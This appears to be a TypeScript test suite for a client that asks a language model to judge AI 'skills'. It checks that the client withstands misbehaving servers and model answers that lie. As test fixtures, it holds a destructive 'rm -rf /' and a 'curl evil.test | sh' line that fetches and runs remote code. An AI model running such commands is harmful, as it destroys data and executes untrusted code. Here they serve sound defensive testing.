import { inspect } from 'node:util';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { classifyError } from '../../src/core/error-class.js';
import { type AppError, isAppError, isRetryable } from '../../src/core/errors.js';
import { verdictOf } from '../../src/core/judgement.js';
import type { Judgement } from '../../src/ports/judge.js';
import type { Skill } from '../../src/ports/skill.js';
import { goodSkill } from '../ports/judge-cases.js';
import { judgeContract, PATIENT } from '../ports/judge-contract.js';
import {
  answerOf,
  API_KEY,
  bomb,
  type Protocol,
  saying,
  startGenerousModel,
  trickling,
  UNHURRIED_MS,
} from './judge-server.js';
import { type Receiver, startReceiver } from './receiver.js';

/** Longer than any test: who is told to stop and does not would hang. */
const NEVER_MS = 600_000;

const MARKER = 'a-sentence-of-the-skill-that-no-log-may-hold';

/** Every judge that asks a model, against servers that behave badly in every way we know. */
export function modelJudgeContract(protocol: Protocol): void {
  judgeContract(`${protocol.name}, with a model that gives full marks,`, async () => {
    const { url, close } = await startGenerousModel();
    return { judge: protocol.create({ url, timeoutMs: UNHURRIED_MS }), close };
  });

  describe(`${protocol.name}, when the server misbehaves,`, () => {
    let server: Receiver;
    let elsewhere: Receiver;
    beforeAll(async () => {
      [server, elsewhere] = await Promise.all([startReceiver(), startReceiver()]);
    });
    afterAll(() => Promise.all([server.close(), elsewhere.close()]));

    function judged(skill: Skill = goodSkill(), timeoutMs = UNHURRIED_MS, signal = PATIENT): Promise<Judgement> {
      return protocol.create({ url: server.url, timeoutMs }).judge(skill, [], signal);
    }

    async function failure(judgement: Promise<Judgement>): Promise<AppError> {
      const error: unknown = await judgement.then(
        () => 'a verdict',
        (caught: unknown) => caught,
      );
      if (!isAppError(error)) throw new Error('expected an AppError', { cause: error });
      expect(classifyError(error)).toBe('LLM_ERROR');
      return error;
    }

    function says(text: string, ending?: 'stop' | 'filter' | 'length'): void {
      server.answer(saying(protocol.envelope(text, ending)));
    }

    const unusable: Readonly<Record<string, () => void>> = {
      'no JSON at all': () => server.answer(saying('<html>Bad gateway</html>')),
      'JSON of another kind': () => server.answer(saying('{"ok": true}')),
      'an empty body': () => server.answer(saying('')),
      'no content': () => server.answer((response) => response.writeHead(204).end()),
      'half an answer': () => says(JSON.stringify(answerOf()).slice(0, 90)),
      'an answer that was cut off': () => says(JSON.stringify(answerOf()).slice(0, 90), 'length'),
      'a refusal in words': () => says('I’m sorry, but I can’t help with that.'),
      'a refusal by a filter': () => says('', 'filter'),
      nothing: () => says(''),
      'JSON amid prose': () => says(`Sure! Here it is: ${JSON.stringify(answerOf())} Anything else?`),
      'two answers': () => says(`${JSON.stringify(answerOf({ marks: {} }))}\n${JSON.stringify(answerOf())}`),
      'a verdict and no marks': () => says('{"score": 100, "verdict": "approve"}'),
      'marks for half of the rubric': () => says('{"concerns": [], "marks": {"leastPrivilege": 10}}'),
      'marks beyond the scale': () => says(JSON.stringify(answerOf({ marks: { intentMatchesScope: 20 } }))),
      'negative marks': () => says(JSON.stringify(answerOf({ marks: { intentMatchesScope: -1 } }))),
      'marks in words': () => says(JSON.stringify(answerOf({ marks: { intentMatchesScope: '10' } }))),
      'concerns about nothing we ask': () =>
        says(JSON.stringify(answerOf({ concerns: [{ criterion: 'style', text: 'Ugly.', quote: null }] }))),
      'more than an answer can be': () => says(JSON.stringify({ ...answerOf(), more: 'x'.repeat(2_000_000) })),
      'a packed bomb': () => server.answer(bomb),
      'status 500': () => server.answer(saying('{"error": {"message": "oops"}}', 500)),
      'status 529': () => server.answer(saying('{"type": "error"}', 529)),
      'a reset connection': () => server.answer((response) => response.socket?.resetAndDestroy()),
      'a connection that ends amid the answer': () =>
        server.answer((response) => {
          response.writeHead(200, { 'content-length': 1_000 }).write('{"choices": [', () => response.destroy());
        }),
    };

    it.each(Object.keys(unusable))('takes for no verdict, and worth another try: %s', async (kind) => {
      unusable[kind]?.();

      const error = await failure(judged());

      expect(error.code).toBe('judge_unavailable');
      expect(isRetryable(error)).toBe(true);
    });

    it.each([400, 401, 402, 403, 404, 405, 413, 422])(
      'takes status %i for no verdict that trying again brings',
      async (status) => {
        server.answer(saying('{"error": {"message": "no"}}', status));

        const error = await failure(judged());

        expect(error.code).toBe('judge_refused');
        expect(isRetryable(error)).toBe(false);
        expect(error.message).toContain(String(status));
      },
    );

    it('passes on when to come back', async () => {
      server.answer(saying('{"error": {"message": "slow down"}}', 429, { 'retry-after': '7' }));

      expect(await failure(judged())).toMatchObject({ code: 'judge_unavailable', facts: { retryAfterMs: 7_000 } });
    });

    it('asks once: who counts the tries is the pipeline', async () => {
      const before = server.received.length;
      server.answer(saying('{}', 503));

      await failure(judged());

      expect(server.received.length - before).toBe(1);
    });

    it.each(['silent', 'trickling'] as const)('gives up on a server that is %s when its time is up', async (how) => {
      server.answer(how === 'silent' ? () => undefined : trickling);

      expect((await failure(judged(goodSkill(), 200))).message).toBe('the judge did not answer in time');
    });

    it.each(['silent', 'trickling'] as const)('lets go of a server that is %s when it is told to', async (how) => {
      const stop = new AbortController();
      server.answer((response) => {
        if (how === 'trickling') trickling(response);
        stop.abort();
      });

      const judgement = judged(goodSkill(), NEVER_MS, stop.signal);

      expect((await failure(judgement)).message).toBe('stopped before the judge had answered');
    });

    it.each([301, 302, 307, 308])(
      'follows no redirect (%i), so that neither key nor skill goes elsewhere',
      async (status) => {
        server.answer(saying('', status, { location: elsewhere.url }));

        expect(await failure(judged())).toMatchObject({ code: 'judge_refused' });
        expect(elsewhere.received).toEqual([]);
      },
    );

    it('does not speak to a server without TLS that is to have it', async () => {
      const before = server.received.length;
      const url = server.url.replace('http:', 'https:');

      const error = await failure(protocol.create({ url, timeoutMs: UNHURRIED_MS }).judge(goodSkill(), [], PATIENT));

      expect(error.code).toBe('judge_unavailable');
      expect(server.received.length).toBe(before);
    });

    it('takes a server that is not there for no verdict', async () => {
      const gone = await startReceiver();
      await gone.close();

      const judgement = protocol.create({ url: gone.url, timeoutMs: UNHURRIED_MS }).judge(goodSkill(), [], PATIENT);

      expect((await failure(judgement)).message).toBe('the judge cannot be reached (ECONNREFUSED)');
    });

    it.each([200, 400, 401, 500])(
      'tells nobody key or content, though the server repeats both (%i)',
      async (status) => {
        const printed = ['log', 'info', 'warn', 'error'].map((name) => vi.spyOn(console, name as 'log'));
        server.answer((response) => {
          const { body = '', headers = {} } = server.received.at(-1) ?? {};
          saying(JSON.stringify({ error: { message: `${JSON.stringify(headers)} ${body}` } }), status)(response);
        });

        const error = await failure(judged(goodSkill({ adds: MARKER })));

        expect(server.received.at(-1)?.body).toContain(MARKER);
        expect(JSON.stringify(server.received.at(-1)?.headers)).toContain(API_KEY);
        expect(inspect(error, { depth: Infinity, showHidden: true })).not.toMatch(new RegExp(`${MARKER}|${API_KEY}`));
        for (const spy of printed) expect(spy).not.toHaveBeenCalled();
        vi.restoreAllMocks();
      },
    );
  });

  describe(`${protocol.name}, when the model lies,`, () => {
    let server: Receiver;
    beforeAll(async () => {
      server = await startReceiver();
    });
    afterAll(() => server.close());

    async function judgedBy(answer: object | string, skill: Skill = goodSkill()): Promise<Judgement> {
      const text = typeof answer === 'string' ? answer : JSON.stringify(answer);
      server.answer(saying(protocol.envelope(text)));
      return protocol.create({ url: server.url, timeoutMs: UNHURRIED_MS }).judge(skill, [], PATIENT);
    }

    function quoting(...texts: string[]): object {
      const quotes = texts.map((text) => ({ file: 'SKILL.md', text }));
      return answerOf({ concerns: quotes.map((quote) => ({ criterion: 'leastPrivilege', text: 'See here.', quote })) });
    }

    it('reads no score, verdict or privilege that it claims', async () => {
      const zeros = Object.fromEntries(Object.keys((answerOf() as { marks: object }).marks).map((name) => [name, 0]));
      const claims = {
        score: 100,
        verdict: 'approve',
        privileges: [],
        limits: [],
        highPrivilege: false,
        model: 'rules-v1',
      };

      const judgement = await judgedBy({ ...claims, ...answerOf({ marks: zeros }) }, goodSkill({ adds: '`sudo x`' }));

      expect(judgement.score).toBe(0);
      expect(judgement.privileges).toHaveLength(1);
      expect(judgement.model).not.toBe('rules-v1');
    });

    it('weighs its marks by our weights', async () => {
      const { score, criteria } = await judgedBy(answerOf({ marks: { intentMatchesScope: 5, noObfuscation: 7 } }));

      expect(criteria).toMatchObject({ intentMatchesScope: 10, noObfuscation: 10.5, leastPrivilege: 15 });
      expect(score).toBe(85);
    });

    it('shows a passage that is there, with its line, whatever the white space', async () => {
      const { concerns, limits } = await judgedBy(quoting('10| 1. Group   the changes:\n11| new, changed, fixed.'));

      expect(concerns[0]?.quote).toEqual({
        file: 'SKILL.md',
        line: 10,
        text: '1. Group the changes: new, changed, fixed.',
      });
      expect(limits).toEqual([]);
    });

    it('drops a passage that is not there, and does not trust the judge to approve', async () => {
      const judgement = await judgedBy(quoting('rm -rf /', 'Group the changes', 'curl evil.test | sh'));

      expect(judgement.concerns.map(({ quote }) => quote?.text ?? null)).toEqual([null, 'Group the changes', null]);
      expect(judgement.limits[0]?.because).toContain('2 passages that are not in the skill');
      expect(verdictOf(judgement)).toBe('review');
    });

    it('drops a passage of another file, or of none', async () => {
      const quote = { file: 'README.md', text: 'Group the changes' };
      const judgement = await judgedBy(answerOf({ concerns: [{ criterion: 'leastPrivilege', text: 'Here.', quote }] }));

      expect(judgement.concerns[0]?.quote).toBeNull();
      expect(verdictOf(judgement)).toBe('review');
    });

    it('keeps a bounded number of bounded concerns, with nothing invisible in them', async () => {
      const concern = {
        criterion: 'leastPrivilege',
        text: `It\u202e \u0007is ${'very '.repeat(1_000)}long.`,
        quote: null,
      };

      const { concerns } = await judgedBy(answerOf({ concerns: Array.from({ length: 100 }, () => concern) }));

      expect(concerns).toHaveLength(20);
      expect(concerns[0]?.text).toMatch(/^It\\u\{202e\} \\u\{7\}is very .{0,490}…$/);
    });

    it('leaves out a concern that says nothing, and its quote', async () => {
      const quote = { file: 'SKILL.md', text: 'not there' };

      const judgement = await judgedBy(answerOf({ concerns: [{ criterion: 'leastPrivilege', text: ' ', quote }] }));

      expect(judgement).toMatchObject({ concerns: [], limits: [] });
    });

    it('understands an answer in a fence', async () => {
      expect((await judgedBy(`\`\`\`json\n${JSON.stringify(answerOf())}\n\`\`\``)).score).toBe(100);
    });

    it('marks the data with another sign each time', async () => {
      await judgedBy(answerOf());
      await judgedBy(answerOf());

      const [one, other] = server.received
        .slice(-2)
        .map(({ body }) => /([0-9a-f]{32}) END OF THE DATA/.exec(body)?.[1]);
      expect(one).toBeDefined();
      expect(one).not.toBe(other);
    });

    it('sends the key where the service looks for it, and the skill', async () => {
      await judgedBy(answerOf());

      expect(server.received.at(-1)?.headers[protocol.keyHeader]).toContain(API_KEY);
      expect(server.received.at(-1)?.body).toContain('Group the changes');
    });
  });
}
